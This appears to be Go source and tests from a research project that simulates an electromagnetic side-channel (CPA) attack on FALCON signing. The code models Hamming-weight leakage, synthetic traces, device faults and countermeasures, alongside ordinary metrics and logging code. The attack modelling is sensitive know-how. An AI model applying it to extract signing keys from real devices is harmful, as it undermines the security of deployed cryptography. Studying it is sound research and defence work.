	dists := make(map[int]Distortion)
	if spec == "" {
		return dists, nil
	}
	for _, part := range strings.Split(spec, ",") {
		part = strings.TrimSpace(part)
		if part == "" {
			continue
		}
		devStr, kind, ok := strings.Cut(part, ":")
		if !ok {
			return nil, fmt.Errorf("bad flaky entry %q: want DEV:KIND[=PARAM]", part)
		}
		idx, err := strconv.Atoi(devStr)
		if err != nil || idx < 0 || idx >= devices {
			return nil, fmt.Errorf("bad flaky device %q: want an index below the pool size %d", devStr, devices)
		}
		kind, param, hasParam := strings.Cut(kind, "=")
		prob := func(def float64) (float64, error) {
			if !hasParam {
				return def, nil
			}
			return strconv.ParseFloat(param, 64)
		}
		d := dists[idx]
		d.Seed = rng.DeriveSeed(seed, 0xf1a4c0de+uint64(idx))
		switch kind {
		case "hang":
			d.HangProb, err = prob(1)
		case "glitch":
			d.GlitchProb, err = prob(0.05)
		case "desync":
			if d.DesyncProb, err = prob(0.05); err == nil {
				d.DesyncShift = 2
			}
		case "transient":
			d.TransientProb, err = prob(0.1)
		case "latency":
			if !hasParam {
				d.Latency = 50 * time.Millisecond
			} else {
				d.Latency, err = time.ParseDuration(param)
			}
		default:
			return nil, fmt.Errorf("unknown flaky kind %q (want hang, glitch, desync, transient or latency)", kind)
		}
		if err != nil {
			return nil, fmt.Errorf("bad flaky parameter in %q: %v", part, err)
		}
		dists[idx] = d
	}
	return dists, nil
}
