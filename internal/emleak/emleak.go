// Package emleak models the measurement side of the attack: a victim
// device executing FALCON's floating-point FFT multiplication while an
// electromagnetic probe captures its switching activity.
//
// The paper measured an ARM-Cortex-M4 with a near-field probe and a
// PicoScope; this package substitutes a synthetic channel built from the
// same physical model the paper's analysis assumes (Brier et al. CPA):
// every micro-operation of the emulated datapath latches a value whose
// Hamming weight (or Hamming distance against the previous register
// content) couples linearly into the probe, plus additive Gaussian noise.
// DESIGN.md records this substitution and why it preserves the attack's
// statistics.
package emleak

import (
	"fmt"
	"math/bits"

	"falcondown/internal/fft"
	"falcondown/internal/fpr"
	"falcondown/internal/rng"
)

// LeakageModel converts a latched intermediate value into nominal leakage.
type LeakageModel interface {
	// Leak returns the noiseless leakage of writing cur over prev.
	Leak(prev, cur uint64) float64
	// Name identifies the model in reports.
	Name() string
}

// HammingWeight is the paper's model: leakage proportional to the number
// of set bits of the latched value.
type HammingWeight struct{}

// Leak returns popcount(cur).
func (HammingWeight) Leak(_, cur uint64) float64 { return float64(bits.OnesCount64(cur)) }

// Name implements LeakageModel.
func (HammingWeight) Name() string { return "hamming-weight" }

// HammingDistance models bus/register overwrite leakage.
type HammingDistance struct{}

// Leak returns popcount(prev XOR cur).
func (HammingDistance) Leak(prev, cur uint64) float64 {
	return float64(bits.OnesCount64(prev ^ cur))
}

// Name implements LeakageModel.
func (HammingDistance) Name() string { return "hamming-distance" }

// Identity leaks the low byte's value directly (a strong, idealized model
// used in ablations).
type Identity struct{}

// Leak returns the low byte of cur.
func (Identity) Leak(_, cur uint64) float64 { return float64(cur & 0xFF) }

// Name implements LeakageModel.
func (Identity) Name() string { return "identity-low-byte" }

// Probe is the acquisition channel: linear gain plus white Gaussian noise,
// the standard CPA measurement model.
type Probe struct {
	Gain       float64
	NoiseSigma float64
}

// DefaultProbe mirrors the calibration described in DESIGN.md: unit gain
// with a noise level that lands the sign-bit attack near the paper's ~9k
// traces.
func DefaultProbe() Probe { return Probe{Gain: 1, NoiseSigma: 8} }

// Layout of one traced complex coefficient product. fft.MulTraced performs
// four real multiplications (11 recorded micro-ops each) followed by one
// subtraction and one addition (6 micro-ops each).
const (
	OpsPerMul       = 11
	MulsPerCoeff    = 4
	OpsPerAdd       = 6
	SamplesPerCoeff = MulsPerCoeff*OpsPerMul + 2*OpsPerAdd // 56
)

// Real-multiplication slots within a coefficient window, by operand roles
// (known operand c = a+bi, secret operand f = x+yi).
const (
	MulReRe = 0 // a·x: known Re × secret Re
	MulImIm = 1 // b·y: known Im × secret Im
	MulReIm = 2 // a·y: known Re × secret Im
	MulImRe = 3 // b·x: known Im × secret Re
)

// SampleIndex returns the trace sample index of micro-op slot op (0..10)
// of multiplication mul (0..3) of coefficient coeff.
func SampleIndex(coeff, mul, op int) int {
	return coeff*SamplesPerCoeff + mul*OpsPerMul + op
}

// MulOpSample maps an fpr multiplication micro-op tag to its slot index.
func MulOpSample(op fpr.Op) int {
	if op > fpr.OpMulResult {
		panic(fmt.Sprintf("emleak: %v is not a multiplication micro-op", op))
	}
	return int(op)
}

// Trace is one captured measurement.
type Trace struct {
	Samples []float64
}

// Observation couples the adversary-known data of one measurement with the
// captured trace: the FFT of the hashed message and the EM samples.
type Observation struct {
	CFFT  []fft.Cplx
	Trace Trace
}

// Device executes the targeted computation FFT(c)⊙FFT(f) and emits
// synthetic EM traces.
type Device struct {
	secret []fft.Cplx // FFT(f): the value under attack
	n      int
	model  LeakageModel
	probe  Probe
	noise  *rng.Xoshiro

	// Shuffle enables the coefficient-shuffling countermeasure of the
	// paper's §V.B discussion: the processing order of the n/2 coefficient
	// products is randomly permuted per execution, so a fixed trace window
	// no longer aligns with a fixed coefficient.
	Shuffle bool

	// ExponentBlind scales the hashed-message operand by a fresh random
	// power of two per execution (and unscales the result outside the
	// attacked window). Powers of two only touch the exponent field, so
	// this protects the exponent adder while leaving the mantissa datapath
	// fully exposed — a deliberately partial countermeasure used in the
	// ablation study.
	ExponentBlind bool

	// MultBlind scales the hashed-message operand by a fresh uniformly
	// random significand in [1, 2) per execution (multiplicative masking
	// of the known operand). The adversary's predictions for every
	// mantissa partial product then decorrelate.
	MultBlind bool
}

// NewDevice builds a victim around the secret FFT(f) vector.
func NewDevice(secretFFT []fft.Cplx, model LeakageModel, probe Probe, seed uint64) *Device {
	return &Device{
		secret: append([]fft.Cplx(nil), secretFFT...),
		n:      2 * len(secretFFT),
		model:  model,
		probe:  probe,
		noise:  rng.New(seed),
	}
}

// Clone returns an independent device with the same secret, leakage
// model, probe and countermeasure configuration but its own noise stream.
// Acquisition workers clone the victim so concurrent measurements never
// share generator state.
func (d *Device) Clone(noiseSeed uint64) *Device {
	c := *d
	c.secret = append([]fft.Cplx(nil), d.secret...)
	c.noise = rng.New(noiseSeed)
	return &c
}

// SeedNoise resets the device's probe-noise (and shuffle/blinding) stream.
// Indexed acquisition reseeds per observation so each measurement's
// randomness is a pure function of its index.
func (d *Device) SeedNoise(seed uint64) { d.noise = rng.New(seed) }

// N returns the polynomial degree of the device's FALCON instance.
func (d *Device) N() int { return d.n }

// Model returns the device's leakage model.
func (d *Device) Model() LeakageModel { return d.model }

// traceRecorder converts micro-op records into trace samples laid out in
// fixed per-coefficient windows.
type traceRecorder struct {
	dev     *Device
	samples []float64
	pos     int
	prev    uint64
}

func (r *traceRecorder) Record(_ fpr.Op, value uint64) {
	leak := r.dev.model.Leak(r.prev, value)
	r.prev = value
	r.samples[r.pos] = r.dev.probe.Gain*leak + r.dev.probe.NoiseSigma*r.dev.noise.NormFloat64()
	r.pos++
}

// ObserveMul captures one measurement of the targeted multiplication for
// the (adversary-known) FFT-domain input cFFT. The returned trace has
// n/2 × SamplesPerCoeff samples.
func (d *Device) ObserveMul(cFFT []fft.Cplx) (Observation, error) {
	if len(cFFT) != len(d.secret) {
		return Observation{}, fmt.Errorf("emleak: input has %d coefficients, device expects %d", len(cFFT), len(d.secret))
	}
	rec := &traceRecorder{dev: d, samples: make([]float64, len(cFFT)*SamplesPerCoeff)}
	order := make([]int, len(cFFT))
	for i := range order {
		order[i] = i
	}
	if d.Shuffle {
		for i := len(order) - 1; i > 0; i-- {
			j := d.noise.Intn(i + 1)
			order[i], order[j] = order[j], order[i]
		}
	}
	// Apply blinding countermeasures to the device-internal operand; the
	// adversary still only knows the unblinded cFFT.
	work := cFFT
	if d.ExponentBlind || d.MultBlind {
		blind := fpr.One
		if d.ExponentBlind {
			blind = fpr.FromScaled(1, d.noise.Intn(16)-8)
		}
		if d.MultBlind {
			// A uniformly random significand in [1, 2).
			m := uint64(1)<<52 | d.noise.Uint64()&((uint64(1)<<52)-1)
			blind = fpr.Mul(blind, fpr.FromScaled(int64(m), -52))
		}
		work = make([]fft.Cplx, len(cFFT))
		for i, z := range cFFT {
			work[i] = z.Scale(blind)
		}
	}
	for _, k := range order {
		start := rec.pos
		fft.MulTraced(work[k], d.secret[k], rec)
		if rec.pos-start != SamplesPerCoeff {
			return Observation{}, fmt.Errorf("emleak: coefficient %d produced %d micro-ops, want %d (degenerate zero operand)", k, rec.pos-start, SamplesPerCoeff)
		}
	}
	return Observation{CFFT: cFFT, Trace: Trace{Samples: rec.samples}}, nil
}

// SecretForTest exposes the device secret to white-box tests and ground
// truth checks in the experiment harness (never to the attack code).
func (d *Device) SecretForTest() []fft.Cplx {
	return append([]fft.Cplx(nil), d.secret...)
}
