package emleak

import (
	"context"
	"errors"
	"math"
	"testing"
	"time"

	"falcondown/internal/fft"
	"falcondown/internal/fpr"
	"falcondown/internal/rng"
)

func flakyTestDevice(t *testing.T) *Device {
	t.Helper()
	secret := make([]fft.Cplx, 4)
	r := rng.New(7)
	for i := range secret {
		re := r.Intn(9) - 4
		im := r.Intn(9) - 4
		if re == 0 {
			re = 1
		}
		if im == 0 {
			im = -1
		}
		secret[i] = fft.Cplx{Re: fpr.FromFloat64(float64(re)), Im: fpr.FromFloat64(float64(im))}
	}
	return NewDevice(secret, HammingWeight{}, Probe{Gain: 1, NoiseSigma: 0.5}, 1)
}

// A FlakyDevice with a zero Distortion must reproduce ObservationAt
// exactly, and must do so on repeated calls (stateless determinism).
func TestFlakyDeviceIdentity(t *testing.T) {
	dev := flakyTestDevice(t)
	f := NewFlakyDevice(dev, Distortion{}, nil)
	for idx := uint64(0); idx < 5; idx++ {
		want, err := ObservationAt(dev.Clone(0), 42, idx)
		if err != nil {
			t.Fatal(err)
		}
		for rep := 0; rep < 2; rep++ {
			got, err := f.Measure(context.Background(), 42, idx)
			if err != nil {
				t.Fatal(err)
			}
			for j := range want.Trace.Samples {
				if got.Trace.Samples[j] != want.Trace.Samples[j] {
					t.Fatalf("idx %d rep %d: sample %d = %v, want %v", idx, rep, j, got.Trace.Samples[j], want.Trace.Samples[j])
				}
			}
		}
	}
}

// Distorted measurements are deterministic: same (Seed, idx) ⇒ same
// bytes, independent of call order or attempt count.
func TestFlakyDeviceDeterministic(t *testing.T) {
	dev := flakyTestDevice(t)
	dist := Distortion{
		Seed:        9,
		GlitchProb:  0.5,
		DesyncProb:  0.5,
		DesyncShift: 3,
		DriftAmp:    0.1,
	}
	a := NewFlakyDevice(dev, dist, nil)
	b := NewFlakyDevice(dev, dist, nil)
	for idx := uint64(0); idx < 8; idx++ {
		oa, err := a.Measure(context.Background(), 3, idx)
		if err != nil {
			t.Fatal(err)
		}
		ob, err := b.Measure(context.Background(), 3, 7-idx) // different order
		if err != nil {
			t.Fatal(err)
		}
		_ = ob
		oa2, err := b.Measure(context.Background(), 3, idx)
		if err != nil {
			t.Fatal(err)
		}
		for j := range oa.Trace.Samples {
			if oa.Trace.Samples[j] != oa2.Trace.Samples[j] {
				t.Fatalf("idx %d: sample %d differs across devices/order", idx, j)
			}
		}
	}
}

// A hang-scheduled measurement returns only when the context is
// cancelled, with the context's error.
func TestFlakyDeviceHangCancels(t *testing.T) {
	dev := flakyTestDevice(t)
	f := NewFlakyDevice(dev, Distortion{HangProb: 1}, nil)
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Millisecond)
	defer cancel()
	start := time.Now()
	_, err := f.Measure(ctx, 1, 0)
	if !errors.Is(err, context.DeadlineExceeded) {
		t.Fatalf("err = %v, want DeadlineExceeded", err)
	}
	if time.Since(start) > 5*time.Second {
		t.Fatal("hang did not honor cancellation promptly")
	}
}

// Transient faults fail the first TransientTries attempts of a scheduled
// index, then succeed with the correct bytes.
func TestFlakyDeviceTransientRetry(t *testing.T) {
	dev := flakyTestDevice(t)
	f := NewFlakyDevice(dev, Distortion{Seed: 5, TransientProb: 1, TransientTries: 2}, nil)
	want, err := ObservationAt(dev.Clone(0), 11, 3)
	if err != nil {
		t.Fatal(err)
	}
	for attempt := 0; attempt < 2; attempt++ {
		if _, err := f.Measure(context.Background(), 11, 3); !errors.Is(err, ErrTransient) {
			t.Fatalf("attempt %d: err = %v, want ErrTransient", attempt, err)
		}
	}
	got, err := f.Measure(context.Background(), 11, 3)
	if err != nil {
		t.Fatalf("post-retry measure: %v", err)
	}
	for j := range want.Trace.Samples {
		if got.Trace.Samples[j] != want.Trace.Samples[j] {
			t.Fatalf("post-retry sample %d = %v, want %v", j, got.Trace.Samples[j], want.Trace.Samples[j])
		}
	}
}

// Glitches saturate samples at ±GlitchLevel; desync shifts are bounded
// by DesyncShift; drift stays within 1±DriftAmp.
func TestFlakyDeviceDistortionShapes(t *testing.T) {
	dev := flakyTestDevice(t)
	f := NewFlakyDevice(dev, Distortion{Seed: 2, GlitchProb: 1, GlitchLevel: 777}, nil)
	o, err := f.Measure(context.Background(), 1, 0)
	if err != nil {
		t.Fatal(err)
	}
	for j, s := range o.Trace.Samples {
		if math.Abs(s) != 777 {
			t.Fatalf("glitched sample %d = %v, want ±777", j, s)
		}
	}

	f = NewFlakyDevice(dev, Distortion{Seed: 2, DesyncProb: 1, DesyncShift: 2}, nil)
	clean, err := ObservationAt(dev.Clone(0), 1, 0)
	if err != nil {
		t.Fatal(err)
	}
	o, err = f.Measure(context.Background(), 1, 0)
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for shift := -2; shift <= 2 && !found; shift++ {
		if shift == 0 {
			continue
		}
		ref := append([]float64(nil), clean.Trace.Samples...)
		desyncShift(ref, shift)
		match := true
		for j := range ref {
			if ref[j] != o.Trace.Samples[j] {
				match = false
				break
			}
		}
		found = match
	}
	if !found {
		t.Fatal("desynced trace is not a bounded shift of the clean trace")
	}
}

// CollectContext honors cancellation and returns the prefix gathered so
// far.
func TestCollectContextCancel(t *testing.T) {
	dev := flakyTestDevice(t)
	c := NewCampaign(dev, 3)
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	obs, err := c.CollectContext(ctx, 10)
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want Canceled", err)
	}
	if len(obs) != 0 {
		t.Fatalf("got %d observations after immediate cancel", len(obs))
	}
	obs, err = NewCampaign(dev, 3).CollectContext(context.Background(), 4)
	if err != nil || len(obs) != 4 {
		t.Fatalf("clean collect: %d obs, err %v", len(obs), err)
	}
}
