package emleak

import (
	"math"
	"testing"

	"falcondown/internal/falcon"
	"falcondown/internal/fft"
	"falcondown/internal/fpr"
	"falcondown/internal/rng"
)

func testDevice(t *testing.T, n int, noise float64) (*Device, *falcon.PrivateKey) {
	t.Helper()
	priv, _, err := falcon.GenerateKey(n, rng.New(1))
	if err != nil {
		t.Fatalf("keygen: %v", err)
	}
	return NewDevice(priv.FFTOfF(), HammingWeight{}, Probe{Gain: 1, NoiseSigma: noise}, 2), priv
}

func TestLeakageModels(t *testing.T) {
	if (HammingWeight{}).Leak(0, 0xFF) != 8 {
		t.Error("HW(0xFF) != 8")
	}
	if (HammingWeight{}).Leak(0xFFFF, 0) != 0 {
		t.Error("HW ignores prev")
	}
	if (HammingDistance{}).Leak(0b1010, 0b0101) != 4 {
		t.Error("HD(1010,0101) != 4")
	}
	if (HammingDistance{}).Leak(7, 7) != 0 {
		t.Error("HD(x,x) != 0")
	}
	if (Identity{}).Leak(0, 0x1234) != 0x34 {
		t.Error("identity low byte")
	}
	for _, m := range []LeakageModel{HammingWeight{}, HammingDistance{}, Identity{}} {
		if m.Name() == "" {
			t.Error("empty model name")
		}
	}
}

func TestSampleIndexLayout(t *testing.T) {
	if SamplesPerCoeff != 56 {
		t.Fatalf("SamplesPerCoeff = %d", SamplesPerCoeff)
	}
	if SampleIndex(0, 0, 0) != 0 {
		t.Error("origin index")
	}
	if SampleIndex(2, 1, 3) != 2*56+11+3 {
		t.Error("index arithmetic")
	}
	if MulOpSample(fpr.OpMulLL) != 0 || MulOpSample(fpr.OpMulSign) != 9 {
		t.Error("op slot mapping")
	}
	defer func() {
		if recover() == nil {
			t.Error("MulOpSample accepted an addition op")
		}
	}()
	MulOpSample(fpr.OpAddSum)
}

func TestObserveMulShape(t *testing.T) {
	dev, _ := testDevice(t, 16, 0)
	c := fft.FFTUint16Centered(make([]uint16, 16))
	// All-zero c makes multiplications degenerate: expect an error about
	// the zero operand rather than a bogus trace.
	if _, err := dev.ObserveMul(c); err == nil {
		t.Fatal("zero input accepted")
	}
	// A realistic input works and has the documented shape.
	point := make([]uint16, 16)
	for i := range point {
		point[i] = uint16(100 + i*37)
	}
	o, err := dev.ObserveMul(fft.FFTUint16Centered(point))
	if err != nil {
		t.Fatal(err)
	}
	if len(o.Trace.Samples) != 8*SamplesPerCoeff {
		t.Fatalf("trace length %d", len(o.Trace.Samples))
	}
	// Wrong-size input.
	if _, err := dev.ObserveMul(o.CFFT[:3]); err == nil {
		t.Fatal("wrong-size input accepted")
	}
}

func TestNoiselessTraceIsExactHW(t *testing.T) {
	dev, priv := testDevice(t, 8, 0)
	point := make([]uint16, 8)
	for i := range point {
		point[i] = uint16(1 + i)
	}
	cf := fft.FFTUint16Centered(point)
	o, err := dev.ObserveMul(cf)
	if err != nil {
		t.Fatal(err)
	}
	// Re-run the multiplication with a SliceRecorder and compare HWs.
	var rec fpr.SliceRecorder
	secret := priv.FFTOfF()
	for k := range cf {
		fft.MulTraced(cf[k], secret[k], &rec)
	}
	if rec.Len() != len(o.Trace.Samples) {
		t.Fatalf("record count %d vs %d samples", rec.Len(), len(o.Trace.Samples))
	}
	for i, v := range rec.Values {
		want := (HammingWeight{}).Leak(0, v)
		if o.Trace.Samples[i] != want {
			t.Fatalf("sample %d = %v, want HW %v", i, o.Trace.Samples[i], want)
		}
	}
}

func TestNoiseStatistics(t *testing.T) {
	dev, _ := testDevice(t, 8, 4.0)
	point := make([]uint16, 8)
	for i := range point {
		point[i] = uint16(11 * (i + 1))
	}
	cf := fft.FFTUint16Centered(point)
	// Repeat the same input; the sample variance at a fixed index should
	// match the probe's noise variance.
	const reps = 4000
	idx := SampleIndex(1, 0, 0)
	var sum, sumSq float64
	for i := 0; i < reps; i++ {
		o, err := dev.ObserveMul(cf)
		if err != nil {
			t.Fatal(err)
		}
		v := o.Trace.Samples[idx]
		sum += v
		sumSq += v * v
	}
	mean := sum / reps
	sd := math.Sqrt(sumSq/reps - mean*mean)
	if math.Abs(sd-4.0) > 0.3 {
		t.Fatalf("noise sd = %v, want ~4", sd)
	}
}

func TestShuffleChangesWindows(t *testing.T) {
	dev, _ := testDevice(t, 32, 0)
	dev.Shuffle = true
	point := make([]uint16, 32)
	for i := range point {
		point[i] = uint16(7 * (i + 1))
	}
	cf := fft.FFTUint16Centered(point)
	a, err := dev.ObserveMul(cf)
	if err != nil {
		t.Fatal(err)
	}
	b, err := dev.ObserveMul(cf)
	if err != nil {
		t.Fatal(err)
	}
	same := 0
	for i := range a.Trace.Samples {
		if a.Trace.Samples[i] == b.Trace.Samples[i] {
			same++
		}
	}
	if same == len(a.Trace.Samples) {
		t.Fatal("shuffled executions produced identical traces")
	}
}

func TestCampaignDeterminism(t *testing.T) {
	devA, _ := testDevice(t, 8, 1.0)
	obsA, err := NewCampaign(devA, 9).Collect(3)
	if err != nil {
		t.Fatal(err)
	}
	devB, _ := testDevice(t, 8, 1.0)
	obsB, err := NewCampaign(devB, 9).Collect(3)
	if err != nil {
		t.Fatal(err)
	}
	for i := range obsA {
		for k := range obsA[i].CFFT {
			if obsA[i].CFFT[k] != obsB[i].CFFT[k] {
				t.Fatal("campaign inputs not deterministic")
			}
		}
		for j := range obsA[i].Trace.Samples {
			if obsA[i].Trace.Samples[j] != obsB[i].Trace.Samples[j] {
				t.Fatal("campaign traces not deterministic")
			}
		}
	}
	// Different campaign seeds must give different inputs.
	devC, _ := testDevice(t, 8, 1.0)
	obsC, err := NewCampaign(devC, 10).Collect(1)
	if err != nil {
		t.Fatal(err)
	}
	if obsC[0].CFFT[0] == obsA[0].CFFT[0] {
		t.Fatal("different seeds, same input")
	}
}

func TestObservationAtMatchesAnyOrder(t *testing.T) {
	dev, _ := testDevice(t, 8, 1.5)
	// Observation i must depend only on (seed, i), not on the order or
	// device instance it is generated from.
	a := dev.Clone(0)
	b := dev.Clone(0)
	var fwd, rev [4]Observation
	for i := 0; i < 4; i++ {
		o, err := ObservationAt(a, 77, uint64(i))
		if err != nil {
			t.Fatal(err)
		}
		fwd[i] = o
	}
	for i := 3; i >= 0; i-- {
		o, err := ObservationAt(b, 77, uint64(i))
		if err != nil {
			t.Fatal(err)
		}
		rev[i] = o
	}
	for i := range fwd {
		for k := range fwd[i].CFFT {
			if fwd[i].CFFT[k] != rev[i].CFFT[k] {
				t.Fatalf("observation %d input depends on generation order", i)
			}
		}
		for j := range fwd[i].Trace.Samples {
			if fwd[i].Trace.Samples[j] != rev[i].Trace.Samples[j] {
				t.Fatalf("observation %d trace depends on generation order", i)
			}
		}
	}
	// Different seeds must give different campaigns.
	o, err := ObservationAt(dev.Clone(0), 78, 0)
	if err != nil {
		t.Fatal(err)
	}
	if o.CFFT[0] == fwd[0].CFFT[0] {
		t.Fatal("different seeds, same input")
	}
}

func TestDefaultProbe(t *testing.T) {
	p := DefaultProbe()
	if p.Gain != 1 || p.NoiseSigma <= 0 {
		t.Fatalf("DefaultProbe = %+v", p)
	}
}

func TestSNRLocatesLeakySamples(t *testing.T) {
	dev, priv := testDevice(t, 8, 2.0)
	obs, err := NewCampaign(dev, 33).Collect(2000)
	if err != nil {
		t.Fatal(err)
	}
	snr, err := SNR(obs, priv.FFTOfF())
	if err != nil {
		t.Fatal(err)
	}
	if len(snr) != 4*SamplesPerCoeff {
		t.Fatalf("snr length %d", len(snr))
	}
	// Data-dependent samples (partial products) must show strong SNR; with
	// σ=2 and ~13 bits of HW variance, SNR ≈ 13/4 ≈ 3.
	llSample := SampleIndex(0, 0, 0)
	if snr[llSample] < 1 {
		t.Errorf("B×D sample SNR = %v, want >> 0", snr[llSample])
	}
	// The sign-XOR sample has ~0.25 variance vs 4 noise: small but nonzero.
	signSample := SampleIndex(0, 0, 9)
	if snr[signSample] <= 0 || snr[signSample] > 1 {
		t.Errorf("sign sample SNR = %v, want small positive", snr[signSample])
	}
	if snr[llSample] < 5*snr[signSample] {
		t.Errorf("mantissa SNR (%v) should dwarf sign SNR (%v)", snr[llSample], snr[signSample])
	}
}

func TestSNRErrors(t *testing.T) {
	if _, err := SNR(nil, nil); err == nil {
		t.Fatal("empty campaign accepted")
	}
}
