package obs

import (
	"encoding/json"
	"net/http"
	"net/http/pprof"
)

// Handler serves the registry in Prometheus text format (GET /metrics).
func (r *Registry) Handler() http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/plain; version=0.0.4; charset=utf-8")
		_ = r.WritePrometheus(w)
	})
}

// SnapshotHandler serves the registry as a JSON flight record
// (GET /metricsz) — the payload campaignctl top renders.
func (r *Registry) SnapshotHandler(cmd string) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		enc := json.NewEncoder(w)
		enc.SetIndent("", "  ")
		_ = enc.Encode(r.NewFlightRecord(cmd))
	})
}

// Mount attaches /metrics and /metricsz for the registry onto mux, and
// — only when withPprof is set — the net/http/pprof handlers under
// /debug/pprof/. Profiling stays opt-in because the endpoints expose
// heap contents and can be driven to consume CPU; the daemons gate it
// behind an explicit -pprof flag.
func (r *Registry) Mount(mux *http.ServeMux, cmd string, withPprof bool) {
	mux.Handle("/metrics", r.Handler())
	mux.Handle("/metricsz", r.SnapshotHandler(cmd))
	if withPprof {
		mux.HandleFunc("/debug/pprof/", pprof.Index)
		mux.HandleFunc("/debug/pprof/cmdline", pprof.Cmdline)
		mux.HandleFunc("/debug/pprof/profile", pprof.Profile)
		mux.HandleFunc("/debug/pprof/symbol", pprof.Symbol)
		mux.HandleFunc("/debug/pprof/trace", pprof.Trace)
	}
}
