package obs

import (
	"fmt"
	"io"
	"os"
	"sync"
	"sync/atomic"
	"time"
)

// Level is a log severity. Messages below the logger's level are dropped.
type Level int32

const (
	LevelDebug Level = iota
	LevelInfo
	LevelWarn
	LevelError
)

func (l Level) String() string {
	switch l {
	case LevelDebug:
		return "DEBUG"
	case LevelInfo:
		return "INFO"
	case LevelWarn:
		return "WARN"
	default:
		return "ERROR"
	}
}

// LevelFromFlags maps the cmds' shared -v/-q flags to a level:
// -v → debug, -q → warn, neither → info (-q wins if both are set).
func LevelFromFlags(verbose, quiet bool) Level {
	switch {
	case quiet:
		return LevelWarn
	case verbose:
		return LevelDebug
	default:
		return LevelInfo
	}
}

// Logger is a small leveled logger with pinned context fields
// (campaign ID, node URL). Context renders BEFORE the message —
// `ts LEVEL name[k=v]: msg` — so scripts that anchor on the message
// tail (smoke.sh's address extraction) are unaffected by added context.
// With() children share the parent's level and output.
type Logger struct {
	name   string
	fields []Label
	level  *atomic.Int32
	mu     *sync.Mutex
	out    io.Writer
	now    func() time.Time
}

// NewLogger returns a stderr logger at LevelInfo.
func NewLogger(name string) *Logger {
	return NewLoggerTo(name, os.Stderr)
}

// NewLoggerTo returns a logger writing to out at LevelInfo.
func NewLoggerTo(name string, out io.Writer) *Logger {
	l := &Logger{name: name, level: new(atomic.Int32),
		mu: new(sync.Mutex), out: out, now: time.Now}
	l.level.Store(int32(LevelInfo))
	return l
}

// SetLevel changes the threshold for this logger and all With children.
func (l *Logger) SetLevel(lv Level) { l.level.Store(int32(lv)) }

// With returns a child logger carrying an extra key=value context field.
func (l *Logger) With(key, value string) *Logger {
	child := *l
	child.fields = append(append([]Label(nil), l.fields...),
		Label{Name: key, Value: value})
	return &child
}

// Enabled reports whether messages at lv would be emitted.
func (l *Logger) Enabled(lv Level) bool { return lv >= Level(l.level.Load()) }

func (l *Logger) logf(lv Level, format string, args ...any) {
	if !l.Enabled(lv) {
		return
	}
	ctx := ""
	if len(l.fields) > 0 {
		ctx = "["
		for i, f := range l.fields {
			if i > 0 {
				ctx += " "
			}
			ctx += f.Name + "=" + f.Value
		}
		ctx += "]"
	}
	line := fmt.Sprintf("%s %s %s%s: %s\n",
		l.now().Format("2006/01/02 15:04:05"), lv, l.name, ctx,
		fmt.Sprintf(format, args...))
	l.mu.Lock()
	defer l.mu.Unlock()
	io.WriteString(l.out, line)
}

// Debugf logs at debug level (shown only with -v).
func (l *Logger) Debugf(format string, args ...any) { l.logf(LevelDebug, format, args...) }

// Infof logs at info level.
func (l *Logger) Infof(format string, args ...any) { l.logf(LevelInfo, format, args...) }

// Warnf logs at warn level (shown even with -q).
func (l *Logger) Warnf(format string, args ...any) { l.logf(LevelWarn, format, args...) }

// Errorf logs at error level.
func (l *Logger) Errorf(format string, args ...any) { l.logf(LevelError, format, args...) }
