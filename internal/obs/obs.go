// Package obs is the dependency-free observability core: atomic
// counters, gauges, fixed-bucket histograms and phase spans, collected
// in a registry that renders Prometheus text format and snapshots to
// JSON.
//
// Everything here is a passive tap. Instrumented packages bump metrics
// at shard/pass/task granularity — never per sample — and nothing in
// this package feeds back into attack configuration, the pinned shard
// fold, or any serialized artifact. The differential suites prove the
// invariant: keys, reports, corpora and checkpoint sidecars are
// byte-identical with instrumentation on or off (see
// internal/cluster's obs differential test).
//
// The package-level enabled flag exists only so that invariant can be
// tested both ways; production runs leave it on. All mutation paths
// (Add, Set, Observe, span End) early-return when disabled, so a
// disabled registry is a handful of atomic loads per tap.
package obs

import (
	"fmt"
	"math"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

// enabled gates every mutation in the package. Default on.
var enabled atomic.Bool

func init() { enabled.Store(true) }

// SetEnabled turns metric collection on or off globally. Off means taps
// are atomic-load no-ops; already-recorded values are retained (reset
// explicitly with Registry.Reset if a test needs a clean slate).
func SetEnabled(on bool) { enabled.Store(on) }

// Enabled reports whether metric collection is on.
func Enabled() bool { return enabled.Load() }

// MetricType discriminates rendered metric families.
type MetricType string

const (
	TypeCounter   MetricType = "counter"
	TypeGauge     MetricType = "gauge"
	TypeHistogram MetricType = "histogram"
)

// metric is the common interface registry entries implement.
type metric interface {
	desc() *desc
	snapshot() MetricSnapshot
}

// desc is the identity of a metric: name, help and a pinned label set.
type desc struct {
	name   string
	help   string
	typ    MetricType
	labels []Label
	key    string // name + canonical label encoding, registry key
}

// Label is one name=value pair attached to a metric.
type Label struct {
	Name  string `json:"name"`
	Value string `json:"value"`
}

// labelKey builds the canonical registry key for a name + label set.
// Labels are sorted so registration order never matters.
func labelKey(name string, labels []Label) string {
	if len(labels) == 0 {
		return name
	}
	ls := append([]Label(nil), labels...)
	sort.Slice(ls, func(i, j int) bool { return ls[i].Name < ls[j].Name })
	var b strings.Builder
	b.WriteString(name)
	for _, l := range ls {
		b.WriteByte('\xff')
		b.WriteString(l.Name)
		b.WriteByte('=')
		b.WriteString(l.Value)
	}
	return b.String()
}

// Registry holds metrics and renders them. The zero value is not
// usable; construct with NewRegistry or use Default.
type Registry struct {
	mu      sync.RWMutex
	metrics map[string]metric
	order   []string // registration order, for stable rendering
}

// NewRegistry returns an empty registry.
func NewRegistry() *Registry {
	return &Registry{metrics: make(map[string]metric)}
}

var defaultRegistry = NewRegistry()

// Default returns the process-wide registry every package-level tap
// registers into.
func Default() *Registry { return defaultRegistry }

// Reset drops every registered metric. Test helper; taps that cached a
// metric pointer keep mutating their (now unregistered) instance, so
// only use this between full re-registrations.
func (r *Registry) Reset() {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.metrics = make(map[string]metric)
	r.order = nil
}

// register returns the existing metric under the key, or installs m.
// Get-or-create semantics make package-level taps idempotent: many
